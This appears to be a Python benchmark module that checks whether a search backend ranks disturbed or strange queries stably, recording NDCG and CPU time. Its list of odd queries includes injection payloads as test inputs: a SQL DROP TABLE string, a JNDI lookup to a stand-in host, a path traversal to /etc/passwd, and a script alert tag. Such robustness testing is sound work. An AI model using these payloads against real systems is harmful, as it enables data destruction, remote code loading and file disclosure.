"""Unusual questions: misspelt, in other languages, one word, three hundred words, markup, emoji, arbitrary characters.

Expected are no error, the same order every time and, for a disturbed question of the collection, nearly the same
results as for the undisturbed one.
"""

import random
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from statistics import median, quantiles
from typing import Final

import numpy as np

from benchmarks.relevance.collection import Collection
from benchmarks.relevance.measures import score
from benchmarks.relevance.systems import documents, indexed, ranking_of
from registry.core.ranking import Embedder, explain
from registry.search.backend import Backend

_NDCG: Final = 2


def _typo(text: str, chance: random.Random) -> str:
    """Swap two neighbouring letters in one of three words."""
    return " ".join(
        _swapped(word, chance) if len(word) > 4 and chance.random() < 1 / 3 else word for word in text.split()
    )


def _swapped(word: str, chance: random.Random) -> str:
    position = chance.randrange(1, len(word) - 2)
    return word[:position] + word[position + 1] + word[position] + word[position + 2 :]


_BABBLE: Final = (
    "By the way, I should say where I come from with this. Last year my brother and I took over the shop of our "
    "parents, and since then hardly a week has gone by without some small surprise. We like it, though. "
)

DISTURBED: Final[dict[str, Callable[[str, random.Random], str]]] = {
    "as it is": lambda text, _: text,
    "typos": _typo,
    "in capitals": lambda text, _: text.upper(),
    "no punctuation": lambda text, _: "".join(char if char.isalnum() else " " for char in text),
    "markup": lambda text, _: f"<p class='q'><b>{text}</b></p><script>alert(1)</script>",
    "markdown and a URL": lambda text, _: f"**{text}** [see](https://user.example/a?b=c&d=%20#e)",
    "JSON": lambda text, _: '{"role": "user", "content": "' + text + '"}',
    "emoji": lambda text, _: f"\U0001f64f {text} \U0001f680\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "zero-width characters": lambda text, _: "\u200b".join(text),
    "fullwidth letters": lambda text, _: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text),
    "engine syntax": lambda text, _: f'+{text.replace(" ", " AND ")}^2 -host:* text:"{text}"~3 OR kind:stats',
    "300 words": lambda text, _: f"{text} {_BABBLE * 7}",
}

STRANGE: Final = (
    "", " ", "\0", "a", "?", "the", "need", "-", '"', "\\", "%", "*", "host:*", "kind:stats", "a" * 100_000,
    "word " * 50_000, "\ud800", "\ufeff", "\u202e reversed \u202c", "e\u0301" * 500, "🚀", "🚀" * 1_000, "\x1b[31mred",
    "'; DROP TABLE services; --", "{{7*7}}", "${jndi:ldap://x.example/a}", "../../etc/passwd", "NaN", "1e999", "-0",
    "ich möchte ein Paket nach Österreich schicken", "je voudrais réserver une table pour deux personnes",
    "necesito traducir un documento", "почта россии отследить посылку", "我需要翻译一份文件", "天気予報を調べたい",
    "날씨를 알려줘", "أريد حجز فندق", "אני צריך מזג אוויר", "ฉันต้องการจองโรงแรม", "मुझे मौसम बताओ",
)  # fmt: skip
"""Questions outside of the collection: some in no language, some in languages that the model does not know."""


@dataclass(frozen=True, slots=True)
class Disturbed:
    """NDCG@10 in per cent, and CPU milliseconds of parsing, retrieving candidates, ranking and explaining ten."""

    name: str
    queries: int
    ndcg: float
    p50: float
    p99: float


async def disturbed(collection: Collection, embedder: Embedder | None, every: int) -> list[Disturbed]:
    chance = random.Random(6)
    async with indexed(embedder, documents(collection.listings, embedder)) as backend:
        results = []
        for name, change in DISTURBED.items():
            ndcg, spent = [], []
            for query in collection.queries[::every]:
                hosts, ms = await _timed_hosts(backend, change(query.text, chance), embedder)
                ndcg.append(score(hosts, query.grades)[_NDCG])
                spent.append(ms)
            results.append(
                Disturbed(name, len(ndcg), 100 * float(np.mean(ndcg)), median(spent), quantiles(spent, n=100)[98])
            )
        spent = [(await _timed_hosts(backend, text, embedder))[1] for text in STRANGE]
        return [*results, Disturbed("strange", len(spent), float("nan"), median(spent), max(spent))]


async def _timed_hosts(backend: Backend, text: str, embedder: Embedder | None) -> tuple[Sequence[str], float]:
    """Return the hosts and CPU milliseconds. Raise AssertionError when the same question gets two answers."""
    start = time.process_time()
    first = await _hosts(backend, text, embedder)
    spent = time.process_time() - start
    assert first == await _hosts(backend, text, embedder), text[:80]
    return first, 1e3 * spent


async def _hosts(backend: Backend, text: str, embedder: Embedder | None) -> list[str]:
    ranking = await ranking_of(backend, text, embedder)
    return [explain(ranking, place).host for place in range(min(10, len(ranking)))]
